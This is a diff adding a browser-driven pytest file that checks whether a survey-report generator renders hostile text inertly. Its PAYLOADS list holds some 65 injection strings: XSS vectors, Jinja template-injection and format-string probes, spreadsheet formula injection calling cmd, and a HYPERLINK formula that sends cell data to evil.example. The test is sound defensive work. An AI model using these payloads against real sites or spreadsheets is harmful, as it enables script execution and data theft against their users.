@@ -1,0 +1,162 @@
+"""Labels, questions, notes, sources and names are untrusted: each reaches the page as text and runs nothing."""
+
+from __future__ import annotations
+
+import csv
+import json
+import shutil
+from pathlib import Path
+
+import pytest
+from conftest import make_report
+from playwright.sync_api import Browser
+from test_page import show
+
+from groundswell.waves.topline_row import COLUMNS
+
+pytestmark = [pytest.mark.browser, pytest.mark.kernel]
+
+HIT = "window.__hit=1"
+PAYLOADS = [
+    f"<script>{HIT}</script>",
+    f"</script><script>{HIT}</script>",
+    f"<ScRiPt>{HIT}</sCrIpT>",
+    f"<script/x>{HIT}</script>",
+    f"<<script>script>{HIT}<</script>/script>",
+    f"<img src=x onerror={HIT}>",
+    f"<img src=x onerror='{HIT}'>",
+    f'"><img src=x onerror="{HIT}">',
+    f"'><img src=x onerror='{HIT}'>",
+    f"<svg onload={HIT}>",
+    f"<svg><script>{HIT}</script></svg>",
+    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
+    f"<math><mtext><script>{HIT}</script></mtext></math>",
+    f"<body onload={HIT}>",
+    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
+    f"<iframe src=javascript:parent.{HIT}></iframe>",
+    f"<object data=javascript:{HIT}></object>",
+    f"<embed src=javascript:{HIT}>",
+    f"<a href=javascript:{HIT}>x</a>",
+    f"<a href='java\tscript:{HIT}'>x</a>",
+    f"<form action=javascript:{HIT}><button>x</button></form>",
+    f"<button formaction=javascript:{HIT}>x</button>",
+    f"<details open ontoggle={HIT}>x</details>",
+    f"<input autofocus onfocus={HIT}>",
+    f"<select autofocus onfocus={HIT}>",
+    f"<textarea autofocus onfocus={HIT}></textarea>",
+    f"<video><source onerror={HIT}></video>",
+    f"<audio src=x onerror={HIT}>",
+    f"<marquee onstart={HIT}>x</marquee>",
+    f"<style>@import 'javascript:{HIT}'</style>",
+    "</style><style>body{display:none}</style>",
+    f"<link rel=stylesheet href=javascript:{HIT}>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
+    "<base href=https://evil.example/>",
+    "<img src=https://evil.example/pixel.png>",
+    f"<template><script>{HIT}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'></noscript>",
+    f"<!--><script>{HIT}</script>-->",
+    f"<![CDATA[<script>{HIT}</script>]]>",
+    f"--><script>{HIT}</script>",
+    f"</title><script>{HIT}</script>",
+    f"</textarea><script>{HIT}</script>",
+    f"</details></section></main><script>{HIT}</script>",
+    f"&lt;script&gt;{HIT}&lt;/script&gt;",
+    f"&#60;script&#62;{HIT}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
+    f"\u2028{HIT}\u2029",
+    f"');{HIT};//",
+    f'");{HIT};//',
+    f"`;{HIT};//",
+    f"${{{HIT}}}",
+    "{{ 7*7 }}",
+    "{% for x in [1] %}boom{% endfor %}",
+    "{{ cycler.__init__.__globals__ }}",
+    "{0.__class__}",
+    "{share}",
+    "%(share)s %s %d",
+    "%{x}<extra>%{y}</extra>",
+    f"<b onmouseover={HIT}>bold</b>",
+    f"[x](javascript:{HIT})",
+    f"![x](x onerror={HIT})",
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?x="&A1,"x")',
+    "$$\\href{javascript:window.__hit=1}{x}$$",
+]
+BATCHES = 4
+
+
+def hostile_survey(folder: Path, payloads: list[str]) -> None:
+    """A survey whose every free text is one of the payloads, each used at least once."""
+    turn = iter(payloads * 10)
+
+    def text() -> str:
+        return (
+            json.dumps(next(turn), ensure_ascii=False)
+            .replace("\u2028", "\\u2028")
+            .replace("\u2029", "\\u2029")
+        )
+
+    lines = [f"{key} = {text()}" for key in ("title", "universe", "geography", "licence")]
+    lines += ["default_deff = 1.5", f"default_deff_source = {text()}"]
+    lines += ["[shared_bias]", "sd = 0.1", f"source = {text()}"]
+    keys = ("conducted_by", "population", "instruments", "sampling", "precision", "weighting", "limitations")
+    lines += ["[disclosure]", *(f"{key} = {text()}" for key in keys)]
+    lines += ["[[events]]", "date = 2024-03-01", f"label = {text()}", 'shock = "none"']
+    for house in ("one", "two"):
+        lines += [f"[houses.{house}]", f"name = {text()}", f"mode = {text()}"]
+    lines += ["[indicators.mood]", f"title = {text()}", f"description = {text()}", 'higher_is = "worse"']
+    for house in ("one", "two"):
+        lines += [f"[indicators.mood.variants.{house}]", f'house = "{house}"', f"question = {text()}"]
+        lines += ['numerator = ["yes"]', f"caution = {text()}"]
+    folder.mkdir(parents=True)
+    (folder / "survey.toml").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    with (folder / "toplines.csv").open("w", encoding="utf-8", newline="") as file:
+        rows = csv.DictWriter(file, COLUMNS)
+        rows.writeheader()
+        for month in range(1, 9):
+            rows.writerow(
+                {
+                    "indicator": "mood",
+                    "variant": ("one", "two")[month % 2],
+                    "house": ("one", "two")[month % 2],
+                    "category": "yes",
+                    "share": f"0.4{month}",
+                    "start": f"2024-0{month}-01",
+                    "end": f"2024-0{month}-03",
+                    "precision": "day",
+                    "n": 1000,
+                    "source_title": next(turn),
+                    "certainty": "verbatim_primary",
+                    "note": next(turn),
+                }
+            )
+
+
+@pytest.mark.parametrize("batch", range(BATCHES))
+def test_hostile_text_is_text(browser: Browser, repository: Path, tmp_path: Path, batch: int) -> None:
+    shutil.copytree(repository / "notebooks", tmp_path / "notebooks")
+    mine = [payload.replace("\t", " ") for payload in PAYLOADS[batch::BATCHES]]
+    hostile_survey(tmp_path / "surveys" / "hostile", mine)
+    folder = make_report(tmp_path, "hostile", "--as-of", "2024-12-31")
+    seen = show(browser, folder / "index.html")
+    page = seen.page
+    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
+    for mark in page.locator(".plot .point").all()[:4]:
+        mark.hover(force=True)
+    assert page.evaluate("window.__hit") is None
+    assert seen.troubles == []
+    assert seen.outside(folder.parents[1]) == []
+    words = " ".join(page.evaluate("document.body.textContent").split())
+    assert [payload for payload in mine if " ".join(payload.split()) not in words] == []
+    hrefs = page.evaluate(
+        "[...document.querySelectorAll('[href],[src]')].map(e => e.getAttribute('href') ?? e.src)"
+    )
+    assert not [url for url in hrefs if "javascript:" in url.lower()]
+
+
+def test_the_corpus_is_as_large_as_promised() -> None:
+    assert len(set(PAYLOADS)) >= 60
